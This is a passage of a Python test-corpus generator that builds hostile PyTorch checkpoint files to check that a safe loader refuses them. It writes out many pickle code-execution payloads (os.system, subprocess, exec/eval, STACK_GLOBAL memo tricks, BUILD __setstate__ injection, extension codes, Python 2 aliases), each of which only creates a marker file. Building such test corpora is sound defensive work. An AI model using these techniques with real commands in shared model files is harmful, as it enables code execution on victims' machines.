#!/usr/bin/env python3
"""Write the malicious test corpus: hostile checkpoints that tensorplay must refuse
without running anything, and ``manifest.json`` describing each of them.

    python tests/malicious/make_corpus.py            # writes tests/malicious/files/ and manifest.json
    python tests/malicious/make_corpus.py --out DIR  # writes DIR/files/ and DIR/manifest.json

Every file is assembled here from raw bytes: pickles from opcodes, zips from headers,
DEFLATE streams from a small deterministic encoder (so the output does not depend on
the zlib build), and the other compressed and archive formats by ``wrappers.py``. The
exceptions are the sparse, quantized, nested and wrapper-subclass tensors, which real
torch (2.13, as pinned for the tests) saves before their bytes are edited, so that
everything but the edit is what torch writes. Nothing is ever unpickled; the only
pickle-related module used is ``pickletools``, to check that the streams meant to be
well formed disassemble. Running the generator twice gives byte-identical output.

Every code-execution payload, if it ever ran, would create ``tensorplay_pwned_marker``
in the current directory.

Manifest entries: ``file``, ``family``, ``description``, ``load_error`` (the exception
class ``tensorplay.load`` must raise), ``scan_verdict`` (``"unsafe"`` when the file
holds a code-execution global or extension code, else ``"unreadable"``) and
``dangerous_globals`` (the ``module.name`` of each code-execution global a scanner
must report, after Python 2 name mapping; globals only reachable by unpacking an
embedded pickle or archive are listed when the nesting is the file's whole point).

``load_error`` is the first refusal in the order a strict loader meets them: an archive
is checked before its pickle runs (so a zip that readers disagree on is malformed,
whatever its pickles hold), compressed files, 7z and raw pickles are not checkpoints
(malformed) and a tar is torch's refused legacy format (unsupported); in a pickle, an
unsafe global is unsafe unless bytes before it are already read apart by CPython's
unpicklers (then the pickle is malformed there). A global named by the very opcode
the readers part at (a last GLOBAL line without its newline, INST without a MARK,
GLOBAL across a FRAME's end) is reached first, so unsafe.
"""
from __future__ import annotations

import argparse
import hashlib
import io
import json
import pathlib
import pickletools
import shutil
import struct
import sys
import tarfile
import zlib

HERE = pathlib.Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))
import wrappers  # noqa: E402 - the sibling module, importable however this file is run

MARKER = "tensorplay_pwned_marker"
TOUCH = f"touch {MARKER}"
PY_MARKER = f"open({MARKER!r}, 'w').close()"

UNSAFE = "UnsafeCheckpointError"
MALFORMED = "MalformedCheckpointError"
LIMIT = "LimitExceededError"
UNSUPPORTED = "UnsupportedCheckpointError"

# --------------------------------------------------------------------------------------
# Pickle opcodes (pickletools names), spelled out so this file needs no pickle import.

MARK, STOP, POP, DUP = b"(", b".", b"0", b"2"
INT, LONG, NONE, PERSID, BINPERSID, REDUCE = b"I", b"L", b"N", b"P", b"Q", b"R"
STRING, BINSTRING, SHORT_BINSTRING, UNICODE, BINUNICODE = b"S", b"T", b"U", b"V", b"X"
BININT, BININT1, BININT2 = b"J", b"K", b"M"
APPEND, BUILD, GLOBAL, DICT, EMPTY_DICT, APPENDS = b"a", b"b", b"c", b"d", b"}", b"e"
GET, BINGET, INST, LONG_BINGET, LIST, EMPTY_LIST = b"g", b"h", b"i", b"j", b"l", b"]"
OBJ, PUT, BINPUT, LONG_BINPUT, SETITEM, TUPLE = b"o", b"p", b"q", b"r", b"s", b"t"
EMPTY_TUPLE, SETITEMS = b")", b"u"
BINBYTES, SHORT_BINBYTES = b"B", b"C"
PROTO, NEWOBJ, EXT1, EXT2, EXT4 = b"\x80", b"\x81", b"\x82", b"\x83", b"\x84"
TUPLE1, TUPLE2, TUPLE3, NEWTRUE, NEWFALSE = b"\x85", b"\x86", b"\x87", b"\x88", b"\x89"
LONG1, LONG4 = b"\x8a", b"\x8b"
SHORT_BINUNICODE, BINUNICODE8, BINBYTES8 = b"\x8c", b"\x8d", b"\x8e"
NEWOBJ_EX, STACK_GLOBAL, MEMOIZE, FRAME = b"\x92", b"\x93", b"\x94", b"\x95"
BYTEARRAY8 = b"\x96"


def proto(n: int) -> bytes:
    return PROTO + bytes([n])


def glob(module: str, name: str) -> bytes:
    return GLOBAL + module.encode() + b"\n" + name.encode() + b"\n"


def u(s: str) -> bytes:
    """BINUNICODE."""
    b = s.encode("utf-8", "surrogatepass")
    return BINUNICODE + struct.pack("<I", len(b)) + b


def su(s: str) -> bytes:
    """SHORT_BINUNICODE (protocol 4)."""
    b = s.encode()
    assert len(b) < 256
    return SHORT_BINUNICODE + bytes([len(b)]) + b


def binbytes(b: bytes) -> bytes:
    """SHORT_BINBYTES or BINBYTES (protocol 3)."""
    if len(b) < 256:
        return SHORT_BINBYTES + bytes([len(b)]) + b
    return BINBYTES + struct.pack("<I", len(b)) + b


def text_string(s: str) -> bytes:
    """Protocol 0 STRING (a py2 str literal)."""
    assert "'" not in s and "\\" not in s and "\n" not in s
    return STRING + b"'" + s.encode() + b"'\n"


def short_binstring(s: str) -> bytes:
    b = s.encode()
    assert len(b) < 256
    return SHORT_BINSTRING + bytes([len(b)]) + b


def i(n: int) -> bytes:
    """An int as protocol 2 writes it."""
    if 0 <= n < 256:
        return BININT1 + bytes([n])
    if 0 <= n < 65536:
        return BININT2 + struct.pack("<H", n)
    if -(2**31) <= n < 2**31:
        return BININT + struct.pack("<i", n)
    length = (n.bit_length() + 8) // 8
    return LONG1 + bytes([length]) + n.to_bytes(length, "little", signed=True)


def put(k: int) -> bytes:
    return BINPUT + bytes([k]) if k < 256 else LONG_BINPUT + struct.pack("<I", k)


def get(k: int) -> bytes:
    return BINGET + bytes([k]) if k < 256 else LONG_BINGET + struct.pack("<I", k)


def tup(*items: bytes) -> bytes:
    if not items:
        return EMPTY_TUPLE
    if len(items) <= 3:
        return b"".join(items) + (TUPLE1, TUPLE2, TUPLE3)[len(items) - 1]
    return MARK + b"".join(items) + TUPLE


def lst(*items: bytes) -> bytes:
    if not items:
        return EMPTY_LIST
    if len(items) == 1:
        return EMPTY_LIST + items[0] + APPEND
    return EMPTY_LIST + MARK + b"".join(items) + APPENDS


def dct(*pairs: tuple[bytes, bytes]) -> bytes:
    if not pairs:
        return EMPTY_DICT
    return EMPTY_DICT + MARK + b"".join(k + v for k, v in pairs) + SETITEMS


def call(fn: bytes, *args: bytes) -> bytes:
    """``fn(*args)`` through REDUCE."""
    return fn + tup(*args) + REDUCE


def pkl(body: bytes, protocol: int = 2) -> bytes:
    return proto(protocol) + body + STOP


def py_bytes(b: bytes) -> bytes:
    """A bytes object as protocol 2 writes it: ``_codecs.encode(latin1 text, 'latin1')``."""
    return call(glob("_codecs", "encode"), u(b.decode("latin1")), u("latin1"))


def ordered_dict() -> bytes:
    return call(glob("collections", "OrderedDict"))


def os_system() -> bytes:
    return call(glob("os", "system"), u(TOUCH))


def storage_pid(key: str = "0", numel: int = 4, stype: bytes | None = None, location: str = "cpu") -> bytes:
    stype = glob("torch", "FloatStorage") if stype is None else stype
    return MARK + u("storage") + stype + u(key) + u(location) + i(numel) + TUPLE + BINPERSID


def tensor(pid: bytes | None = None, offset: int = 0, size=(4,), stride=(1,)) -> bytes:
    """``torch._utils._rebuild_tensor_v2(storage, offset, size, stride, False, OrderedDict())``."""
    pid = storage_pid() if pid is None else pid
    return (
        glob("torch._utils", "_rebuild_tensor_v2")
        + MARK
        + pid
        + i(offset)
        + tup(*map(i, size))
        + tup(*map(i, stride))
        + NEWFALSE
        + ordered_dict()
        + TUPLE
        + REDUCE
    )


def state_dict(*items: tuple[str, bytes]) -> bytes:
    """An ``OrderedDict`` state dict with its (empty) ``_metadata`` BUILD, as nn.Module writes it."""
    body = ordered_dict() + MARK + b"".join(u(k) + v for k, v in items) + SETITEMS
    return body + dct((u("_metadata"), ordered_dict())) + BUILD


FLOATS4 = struct.pack("<4f", 1.0, 2.0, 3.0, 4.0)
BENIGN_PKL = pkl(state_dict(("weight", tensor())))
MALICIOUS_PKL = pkl(os_system())


def check_pickle(data: bytes) -> None:
    """Disassemble a stream meant to be well formed (never executes it)."""
    ops = list(pickletools.genops(data))
    assert ops[-1][0].name == "STOP", "stream does not end in STOP"
    assert ops[-1][2] + 1 == len(data), "bytes after STOP"


# --------------------------------------------------------------------------------------
# DEFLATE: a deterministic encoder for inputs made of repeated units. One dynamic-Huffman
# block; repeats become length-258 back-references costing 2 bits each (about 1000:1).

_LEN_BASE = [3, 4, 5, 6, 7, 8, 9, 10, 11, 13, 15, 17, 19, 23, 27, 31, 35, 43, 51, 59,
             67, 83, 99, 115, 131, 163, 195, 227, 258]
_LEN_EXTRA = [0] * 8 + [1] * 4 + [2] * 4 + [3] * 4 + [4] * 4 + [5] * 4 + [0]
_DIST_BASE = [1, 2, 3, 4, 5, 7, 9, 13, 17, 25, 33, 49, 65, 97, 129, 193, 257, 385, 513,
              769, 1025, 1537, 2049, 3073, 4097, 6145, 8193, 12289, 16385, 24577]
_DIST_EXTRA = [0, 0, 0, 0, 1, 1, 2, 2, 3, 3, 4, 4, 5, 5, 6, 6, 7, 7, 8, 8, 9, 9, 10, 10,
               11, 11, 12, 12, 13, 13]
_CL_ORDER = [16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1, 15]


def _code_index(bases: list[int], value: int) -> int:
    k = len(bases) - 1
    while bases[k] > value:
        k -= 1
    return k


def _balanced(symbols: list[int]) -> dict[int, int]:
    """Code lengths of a complete prefix code with leaves as level as possible."""
    n = len(symbols)
    if n == 1:
        return {symbols[0]: 0}
    depth = (n - 1).bit_length()
    shallow = (1 << depth) - n
    return {s: depth - 1 if k < shallow else depth for k, s in enumerate(symbols)}


def _lengths(used: set[int], heavy: int | None, pad: list[int]) -> dict[int, int]:
    """Complete code lengths for `used` (padded to two symbols); `heavy` gets 1 bit."""
    symbols = sorted(used)
    for extra in pad:
        if len(symbols) >= 2:
            break
        if extra not in symbols:
            symbols = sorted(symbols + [extra])
    if heavy in symbols:
        rest = [s for s in symbols if s != heavy]
        out = {s: n + 1 for s, n in _balanced(rest).items()}
        out[heavy] = 1
        return out
    return _balanced(symbols)


def _canonical(lengths: dict[int, int]) -> dict[int, tuple[int, int]]:
    """symbol -> (bit-reversed code, length), as RFC 1951 assigns codes."""
    max_len = max(lengths.values())
    count = [0] * (max_len + 1)
    for n in lengths.values():
        count[n] += 1
    count[0] = 0
    code, next_code = 0, [0] * (max_len + 1)
    for bits in range(1, max_len + 1):
        code = (code + count[bits - 1]) << 1
        next_code[bits] = code
    out = {}
    for s in sorted(lengths):
        n = lengths[s]
        if n:
            c = next_code[n]
            next_code[n] += 1
            out[s] = (int(format(c, f"0{n}b")[::-1], 2), n)
    return out


class _Bits:
    def __init__(self):
        self.acc, self.n, self.out = 0, 0, bytearray()

    def put(self, value: int, nbits: int) -> None:
        self.acc |= value << self.n
        self.n += nbits
        while self.n >= 8:
            self.out.append(self.acc & 0xFF)
            self.acc >>= 8
            self.n -= 8

    def done(self) -> bytes:
        if self.n:
            self.out.append(self.acc & 0xFF)
        return bytes(self.out)


def _tokens(segments):
    """Literals and (length, distance) matches reproducing `unit * count` per segment."""
    for unit, count in segments:
        if count <= 0:
            continue
        yield from unit
        period, remaining, pos = len(unit), len(unit) * (count - 1), len(unit)
        assert period <= 32768
        while remaining:
            if remaining < 3:
                yield unit[pos % period]
                pos += 1
                remaining -= 1
                continue
            take = 258 if remaining >= 261 or remaining == 258 else (remaining - 3 if remaining > 258 else remaining)
            yield (take, period)
            pos += take
            remaining -= take


def deflate(segments) -> bytes:
    """Raw DEFLATE of the concatenation of ``unit * count`` for each ``(unit, count)``."""
    lit_used, dist_used, lit_freq = {256}, set(), {}
    for t in _tokens(segments):
        if isinstance(t, int):
            lit_used.add(t)
        else:
            sym = 257 + _code_index(_LEN_BASE, t[0])
            lit_used.add(sym)
            lit_freq[sym] = lit_freq.get(sym, 0) + 1
            dist_used.add(_code_index(_DIST_BASE, t[1]))
    heavy = max(lit_freq, key=lambda s: (lit_freq[s], s)) if lit_freq else None
    lit_len = _lengths(lit_used, heavy, [0, 1])
    dist_len = _lengths(dist_used, min(dist_used) if dist_used else None, [0, 1])
    num_lit = max(257, max(lit_len) + 1)
    num_dist = max(1, max(dist_len) + 1)
    seq = [lit_len.get(s, 0) for s in range(num_lit)] + [dist_len.get(s, 0) for s in range(num_dist)]
    cl_tokens, k = [], 0
    while k < len(seq):
        v, run = seq[k], 1
        while k + run < len(seq) and seq[k + run] == v:
            run += 1
        k += run
        if v == 0:
            while run >= 11:
                take = min(run, 138)
                cl_tokens.append((18, 7, take - 11))
                run -= take
            if run >= 3:
                cl_tokens.append((17, 3, run - 3))
                run = 0
        cl_tokens.extend((v, 0, 0) for _ in range(run))
    cl_len = _lengths({t[0] for t in cl_tokens}, None, [0, 1])
    num_cl = max(4, max(_CL_ORDER.index(s) for s, n in cl_len.items() if n) + 1)
    lit_codes, dist_codes, cl_codes = _canonical(lit_len), _canonical(dist_len), _canonical(cl_len)

    bits = _Bits()
    bits.put(1, 1)  # BFINAL
    bits.put(2, 2)  # dynamic Huffman
    bits.put(num_lit - 257, 5)
    bits.put(num_dist - 1, 5)
    bits.put(num_cl - 4, 4)
    for s in _CL_ORDER[:num_cl]:
        bits.put(cl_len.get(s, 0), 3)
    for sym, nextra, extra in cl_tokens:
        bits.put(*cl_codes[sym])
        if nextra:
            bits.put(extra, nextra)
    for t in _tokens(segments):
        if isinstance(t, int):
            bits.put(*lit_codes[t])
            continue
        length, dist = t
        li = _code_index(_LEN_BASE, length)
        bits.put(*lit_codes[257 + li])
        if _LEN_EXTRA[li]:
            bits.put(length - _LEN_BASE[li], _LEN_EXTRA[li])
        di = _code_index(_DIST_BASE, dist)
        bits.put(*dist_codes[di])
        if _DIST_EXTRA[di]:
            bits.put(dist - _DIST_BASE[di], _DIST_EXTRA[di])
    bits.put(*lit_codes[256])
    out = bits.done()
    _check_deflate(out, segments)
    return out


def _check_deflate(data: bytes, segments) -> None:
    """Inflate `data` in chunks and compare it with the segments (by length and sha256)."""
    want, size = hashlib.sha256(), 0
    for unit, count in segments:
        chunk = unit * max(1, (1 << 20) // max(1, len(unit)))
        per = len(chunk) // len(unit) if unit else 0
        left = count
        while left > 0:
            n = min(left, per)
            want.update(chunk if n == per else unit * n)
            size += len(unit) * n
            left -= n
    got, total = hashlib.sha256(), 0
    inflater = zlib.decompressobj(-15)
    buf = data
    while True:
        piece = inflater.decompress(buf, 1 << 22)
        got.update(piece)
        total += len(piece)
        buf = inflater.unconsumed_tail
        if not piece and not buf:
            break
    assert inflater.eof and not inflater.unused_data, "DEFLATE stream is not exactly one stream"
    assert (total, got.digest()) == (size, want.digest()), "DEFLATE stream does not reproduce its input"


# --------------------------------------------------------------------------------------
# ZIP: a writer that lets every header field lie on its own.

class Entry:
    def __init__(self, name, data, *, method=0, usize=None, crc=None, flags=0, align=True,
                 lfh_name=None, lfh_method=None, lfh_sizes=None, lfh_crc=None,
                 cd_sizes=None, cd_offset=None, plain=None, after=b""):
        """`data` is the payload as stored; `plain` the uncompressed bytes (for the CRC)
        when it differs. Every `lfh_*`/`cd_*` field overrides one header alone. `after`
        is written right after the payload (a data descriptor)."""
        self.name, self.data, self.method = name, data, method
        self.usize = len(data) if usize is None else usize
        if crc is None:
            crc = zlib.crc32(data if plain is None else plain)
        self.crc, self.flags, self.align = crc, flags, align
        self.lfh_name, self.lfh_method, self.lfh_sizes = lfh_name, lfh_method, lfh_sizes
        self.lfh_crc = lfh_crc
        self.cd_sizes, self.cd_offset = cd_sizes, cd_offset
        self.after = after


def _zip64_extra(values: list[int]) -> bytes:
    if not values:
        return b""
    return struct.pack("<HH", 1, 8 * len(values)) + b"".join(struct.pack("<Q", v) for v in values)


def zip_pieces(entries: list[Entry], base: int = 0) -> tuple[bytes, list[bytes]]:
    """The local headers with their payloads, and one central directory record per
    entry, for an archive whose first local header sits at file offset `base`."""
    out = bytearray()
    central = []
    for e in entries:
        offset = base + len(out)
        name = (e.lfh_name if e.lfh_name is not None else e.name).encode()
        csize, usize = e.lfh_sizes if e.lfh_sizes is not None else (len(e.data), e.usize)
        big = csize >= 0xFFFFFFFF or usize >= 0xFFFFFFFF
        extra = _zip64_extra([usize, csize]) if big else b""
        if big:
            csize = usize = 0xFFFFFFFF
        if e.align:
            start = offset + 30 + len(name) + len(extra) + 4
            extra += struct.pack("<HH", 0x4246, (-start) % 64) + b"Z" * ((-start) % 64)
        out += struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 45 if big else 20,
            e.flags,
            e.method if e.lfh_method is None else e.lfh_method,
            0, 0x21, e.crc if e.lfh_crc is None else e.lfh_crc, csize, usize, len(name), len(extra),
        )
        out += name + extra + e.data + e.after
        central.append((e, offset))
    records = []
    for e, offset in central:
        name = e.name.encode()
        csize, usize = e.cd_sizes if e.cd_sizes is not None else (len(e.data), e.usize)
        offset = e.cd_offset if e.cd_offset is not None else offset
        z64 = [v for v in (usize, csize) if v >= 0xFFFFFFFF]
        extra = _zip64_extra(z64)
        usize = min(usize, 0xFFFFFFFF)
        csize = min(csize, 0xFFFFFFFF)
        records.append(struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 45 if z64 else 20, e.flags, e.method, 0, 0x21,
            e.crc, csize, usize, len(name), len(extra), 0, 0, 0, 0, offset,
        ) + name + extra)
    return bytes(out), records


def zip64_end(count: int, cd_size: int, cd_start: int, at: int) -> bytes:
    """A ZIP64 end of central directory record at file offset `at`, and its locator."""
    return (struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 0x031E, 45, 0, 0, count, count, cd_size, cd_start)
            + struct.pack("<IIQI", 0x07064B50, 0, at, 1))


def eocd(count: int, cd_size: int, cd_start: int, *, disk_count: int | None = None, comment: bytes = b"") -> bytes:
    """An end of central directory record; `disk_count` (entries on this disk) may
    differ from the total `count`."""
    disk_count = count if disk_count is None else disk_count
    return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, min(disk_count, 0xFFFF), min(count, 0xFFFF),
                       cd_size, cd_start, len(comment)) + comment


def zip_archive(entries: list[Entry], *, eocd_entries=None, base: int = 0) -> bytes:
    """Local headers and payloads, then the central directory and end records; `base`
    is where the archive starts in the file it will be part of."""
    local, records = zip_pieces(entries, base)
    out = bytearray(local)
    cd_start = base + len(out)
    out += b"".join(records)
    cd_size = base + len(out) - cd_start
    count = len(records) if eocd_entries is None else eocd_entries
    if count >= 0xFFFF:
        out += zip64_end(count, cd_size, cd_start, base + len(out))
    out += eocd(count, cd_size, cd_start)
    return bytes(out)


def checkpoint(pickle_bytes: bytes, storages: dict[str, bytes] | None = None, *, root="archive",
               extra: list[Entry] | None = None, pkl_entry: Entry | None = None, **zip_kw) -> bytes:
    """A torch-style checkpoint: data.pkl, byteorder, data/<key>..., version."""
    entries = [pkl_entry or Entry(f"{root}/data.pkl", pickle_bytes)]
    entries.append(Entry(f"{root}/byteorder", b"little"))
    for key, data in (storages or {}).items():
        entries.append(data if isinstance(data, Entry) else Entry(f"{root}/data/{key}", data))
    entries += extra or []
    entries.append(Entry(f"{root}/version", b"3\n"))
    return zip_archive(entries, **zip_kw)


def tensor_checkpoint(pickle_bytes: bytes, **kw) -> bytes:
    return checkpoint(pickle_bytes, {"0": FLOATS4}, **kw)


# --------------------------------------------------------------------------------------
# Other containers.

def npy(descr: str, shape: tuple, payload: bytes) -> bytes:
    """A version 1.0 .npy file: magic, header dict padded to 64 bytes, then the data."""
    header = f"{{'descr': {descr!r}, 'fortran_order': False, 'shape': {shape!r}, }}".encode("latin1")
    pad = (-(10 + len(header) + 1)) % 64
    header += b" " * pad + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload


def object_array_pickle(element: bytes) -> bytes:
    """What np.save writes for an object array of one element (numpy 1.x names, protocol 3)."""
    ndarray = (
        glob("numpy.core.multiarray", "_reconstruct")
        + tup(glob("numpy", "ndarray"), tup(i(0)), binbytes(b"b"))
        + REDUCE
    )
    dtype = call(glob("numpy", "dtype"), u("O8"), NEWFALSE, NEWTRUE) + tup(
        i(3), u("|"), NONE, NONE, NONE, i(-1), i(-1), i(63)) + BUILD
    state = tup(i(1), tup(i(1)), dtype, NEWFALSE, lst(element))
    return pkl(ndarray + state + BUILD, 3)


def tar_archive(members: list[tuple[str, bytes]]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size, info.mtime, info.mode = len(data), 0, 0o644
            info.uid = info.gid = 0
            info.uname = info.gname = ""
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def tar_header(name: bytes, size_field: bytes, size: int = 0) -> bytes:
    """A ustar header tarfile reads (its checksum summed last); `name` may hold
    any bytes, and the size field any spelling `int(..., 8)` takes."""
    info = tarfile.TarInfo(name.decode("utf-8", "surrogateescape"))
    info.size, info.mtime, info.mode = size, 0, 0o644
    block = bytearray(info.tobuf(tarfile.USTAR_FORMAT, "utf-8", "surrogateescape"))
    block[124:136] = size_field.ljust(12, b"\0")
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % tarfile.calc_chksums(bytes(block))[0]
    return bytes(block)


def legacy_tar_polyglot(storages: bytes) -> bytes:
    """A legacy stream (one 4096-byte tensor) that tarfile also opens. Its second
    pickle, the protocol version, takes the rest of the tar's first header as a
    BINUNICODE string (the header's fields are ASCII) and POPs it; the first
    member's data runs over the stream up to the tensor's bytes, which hold a
    `storages` member: what torch.load unpickles first."""
    numel = 4096
    pid = MARK + u("storage") + glob("torch", "ByteStorage") + u(LEGACY_KEY) + u("cpu") + i(numel) + NONE + TUPLE
    main = pkl(state_dict(("weight", tensor(pid + BINPERSID, size=(numel,)))))
    swallow = LEGACY_MAGIC + proto(2) + BINUNICODE + struct.pack("<I", 512 - len(LEGACY_MAGIC) - 7)
    stream = (POP + i(1001) + STOP + LEGACY_SYS_INFO + main + pkl(lst(u(LEGACY_KEY)))
              + struct.pack("<q", numel))
    tensor_at = 512 + len(stream)
    at = tensor_at + (-tensor_at % 512)
    body = storages + b"\0" * (-len(storages) % 512)
    member = tar_header(b"storages", b"%011o\0" % len(storages)) + body + b"\0" * 1024
    tensor_bytes = bytearray(numel)
    tensor_bytes[at - tensor_at:at - tensor_at + len(member)] = member
    data = tar_header(swallow, b"%011o\0" % (at - 512)) + stream + bytes(tensor_bytes)
    assert len(data) == tensor_at + numel
    assert tarfile.open(fileobj=io.BytesIO(data), mode="r:").getnames()[1:] == ["storages"]
    return data


LEGACY_MAGIC = bytes.fromhex("80028a0a6cfc9c46f9206aa850192e")
LEGACY_PROTOCOL = pkl(i(1001))
LEGACY_SYS_INFO = pkl(dct(
    (u("protocol_version"), i(1001)),
    (u("little_endian"), NEWTRUE),
    (u("type_sizes"), dct((u("short"), i(2)), (u("int"), i(4)), (u("long"), i(4)))),
))
LEGACY_KEY = "94357228610912"


def legacy_tensor() -> bytes:
    """A 4-float tensor whose persistent id has the legacy sixth item (view metadata None)."""
    pid = MARK + u("storage") + glob("torch", "FloatStorage") + u(LEGACY_KEY) + u("cpu") + i(4) + NONE + TUPLE
    return tensor(pid + BINPERSID)


def legacy_storages() -> bytes:
    return struct.pack("<q", 4) + FLOATS4


# --------------------------------------------------------------------------------------
# The corpus.

class Corpus:
    def __init__(self):
        self.files: dict[str, bytes] = {}
        self.manifest: list[dict] = []

    def add(self, file, family, description, load_error, data, dangerous=(), *, unsafe=None, wellformed=None,
            readers=()):
        """``readers``: the oracle harness's readers (tests/oracle/readers.py) that run the
        file's payload; tests/test_malicious.py runs each on the file and wants the marker."""
        assert file not in self.files, file
        assert load_error in (UNSAFE, MALFORMED, LIMIT, UNSUPPORTED)
        if wellformed is not None:
            check_pickle(wellformed)
        verdict = "unsafe" if (dangerous or unsafe) else "unreadable"
        self.files[file] = data
        entry = {
            "file": file,
            "family": family,
            "description": description,
            "load_error": load_error,
            "scan_verdict": verdict,
            "dangerous_globals": list(dangerous),
        }
        if readers:
            entry["readers"] = list(readers)
        self.manifest.append(entry)


def code_execution(c: Corpus) -> None:
    fam = "code_execution"

    def zipped(file, description, body, dangerous, protocol=2, raw=None):
        data = raw if raw is not None else pkl(body, protocol)
        c.add(file, fam, description, UNSAFE, tensor_checkpoint(data), dangerous, wellformed=data)

    zipped("global_reduce_os_system.pt", "GLOBAL os.system + REDUCE: the classic payload",
           os_system(), ["os.system"])
    zipped("global_reduce_posix_system.pt", "GLOBAL posix.system (os.system's real home on Linux)",
           call(glob("posix", "system"), u(TOUCH)), ["posix.system"])
    zipped("global_reduce_nt_system.pt", "GLOBAL nt.system (os.system on Windows)",
           call(glob("nt", "system"), u(TOUCH)), ["nt.system"])
    zipped("payload_among_tensors.pt",
           "a real state dict (weight tensor with its data/0 record) whose 'bias' entry is os.system(...)",
           state_dict(("weight", tensor()), ("bias", os_system())), ["os.system"])

    # STACK_GLOBAL in its forms.
    zipped("stack_global_strings.pt", "protocol 4 STACK_GLOBAL with module and name pushed as strings",
           su("os") + su("system") + STACK_GLOBAL + su(TOUCH) + TUPLE1 + REDUCE, ["os.system"], 4)
    zipped("stack_global_binget.pt",
           "STACK_GLOBAL whose names come back from the memo (BINGET) after being stored as "
           "innocent-looking dict values",
           dct((su("framework"), su("subprocess") + put(1)), (su("entry"), su("check_output") + put(2)))
           + get(1) + get(2) + STACK_GLOBAL + tup(lst(su("touch"), su(MARKER))) + REDUCE + TUPLE2,
           ["subprocess.check_output"], 4)
    zipped("stack_global_text_get.pt",
           "STACK_GLOBAL whose names were stored with protocol 0 PUT and fetched with text GET",
           su("builtins") + b"p1\n" + POP + su("exec") + b"p2\n" + POP + b"g1\ng2\n" + STACK_GLOBAL
           + su(PY_MARKER) + TUPLE1 + REDUCE, ["builtins.exec"], 4)
    zipped("stack_global_memoize.pt",
           "STACK_GLOBAL whose names were memoized with MEMOIZE, popped, then fetched with BINGET",
           su("builtins") + MEMOIZE + POP + su("eval") + MEMOIZE + POP + get(0) + get(1) + STACK_GLOBAL
           + su(f"__import__('os').system({TOUCH!r})") + TUPLE1 + REDUCE, ["builtins.eval"], 4)

    # INST / OBJ / NEWOBJ / NEWOBJ_EX / BUILD.
    zipped("inst_opcode.pt", "protocol 0 INST: class and arguments in one text opcode",
           None, ["os.system"], raw=MARK + text_string(TOUCH) + b"ios\nsystem\n" + STOP)
    zipped("obj_opcode.pt", "protocol 1 (no PROTO) OBJ calling subprocess.Popen(['touch', marker])",
           None, ["subprocess.Popen"],
           raw=MARK + glob("subprocess", "Popen") + lst(u("touch"), u(MARKER)) + OBJ + STOP)
    zipped("newobj_partial.pt",
           "NEWOBJ builds functools.partial(os.system, cmd), then REDUCE calls it",
           glob("functools", "partial") + tup(glob("os", "system"), u(TOUCH)) + NEWOBJ + EMPTY_TUPLE + REDUCE,
           ["functools.partial", "os.system"])
    zipped("newobj_ex_partial.pt",
           "protocol 4 NEWOBJ_EX builds functools.partial(exec, code) with kwargs, then REDUCE calls it",
           glob("functools", "partial") + tup(glob("builtins", "exec"), su(PY_MARKER)) + EMPTY_DICT
           + NEWOBJ_EX + EMPTY_TUPLE + REDUCE, ["functools.partial", "builtins.exec"], 4)
    zipped("build_setstate_injection.pt",
           "BUILD puts __setstate__=os.system into an allowlisted OrderedDict's __dict__; a second "
           "BUILD would call it",
           ordered_dict() + dct((u("__setstate__"), glob("os", "system"))) + BUILD + u(TOUCH) + BUILD,
           ["os.system"])
    zipped("build_partial_setstate.pt",
           "BUILD on a functools.partial runs partial.__setstate__, swapping its function for os.system",
           glob("functools", "partial") + tup(glob("collections", "OrderedDict")) + NEWOBJ
           + tup(glob("os", "system"), tup(u(TOUCH)), EMPTY_DICT, NONE) + BUILD + EMPTY_TUPLE + REDUCE,
           ["functools.partial", "os.system"])

    # Extension codes name a global through copyreg's registry: no name in the file.
    for op, code, fmt in ((EXT1, 0x01, "<B"), (EXT2, 0x1234, "<H"), (EXT4, 0x12345678, "<I")):
        name = {EXT1: "ext1", EXT2: "ext2", EXT4: "ext4"}[op]
        data = pkl(op + struct.pack(fmt, code) + u(TOUCH) + TUPLE1 + REDUCE)
        c.add(f"{name}_code.pt", fam,
              f"{name.upper()} extension code {code:#x} used as a callable (a loader that consults "
              "copyreg's extension registry would call whatever is registered there)",
              UNSAFE, tensor_checkpoint(data), [], unsafe=True, wellformed=data)

    # Persistent ids.
    zipped("binpersid_module_id.pt",
           "BINPERSID with a legacy ('module', cls, file, source) id naming subprocess.Popen; the "
           "result is then called",
           MARK + u("module") + glob("subprocess", "Popen") + u("evil.py") + u("") + TUPLE + BINPERSID
           + tup(lst(u("touch"), u(MARKER))) + REDUCE, ["subprocess.Popen"])
    zipped("persid_text_id.pt",
           "protocol 0 PERSID with a text id holding the command, fed to INST os.system",
           None, ["os.system"], raw=MARK + PERSID + TOUCH.encode() + b"\n" + b"ios\nsystem\n" + STOP)

    # Protocol 0/1 text opcodes.
    zipped("protocol0_text.pt", "an all-text protocol 0 pickle: GLOBAL, STRING, LIST, TUPLE, REDUCE",
           None, ["subprocess.check_call"],
           raw=b"csubprocess\ncheck_call\np0\n((lp1\n" + text_string("touch") + b"a" + text_string(MARKER)
           + b"atp2\nRp3\n.")
    zipped("protocol1_hidden.pt",
           "protocol 1 (no PROTO opcode): a harmless-looking dict of settings, the payload under a "
           "late key",
           None, ["os.system"],
           raw=EMPTY_DICT + b"q\x00" + MARK + short_binstring("lr") + b"G?\xb9\x99\x99\x99\x99\x99\x9a"
           + short_binstring("epochs") + i(10) + short_binstring("hook") + b"cos\nsystem\nq\x01"
           + MARK + short_binstring(TOUCH) + TUPLE + REDUCE + SETITEMS + STOP)

    # Python 2 names.
    zipped("py2_builtin_eval.pt", "Python 2 name __builtin__.eval (maps to builtins.eval)",
           None, ["builtins.eval"],
           raw=b"c__builtin__\neval\n(" + text_string(f'__import__("os").system("{TOUCH}")') + b"tR.")
    zipped("py2_commands_getoutput.pt", "Python 2 name commands.getoutput (maps to subprocess.getoutput)",
